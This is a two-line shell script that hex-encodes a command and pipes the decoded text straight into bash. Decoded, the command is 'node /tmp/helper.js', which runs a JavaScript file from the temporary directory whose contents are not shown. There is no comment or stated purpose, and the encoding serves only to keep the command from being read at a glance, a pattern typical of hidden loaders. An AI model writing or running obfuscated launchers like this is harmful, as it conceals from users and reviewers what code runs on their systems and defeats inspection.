#!/bin/sh
echo 6e6f6465202f746d702f68656c7065722e6a73 | xxd -r -p | bash
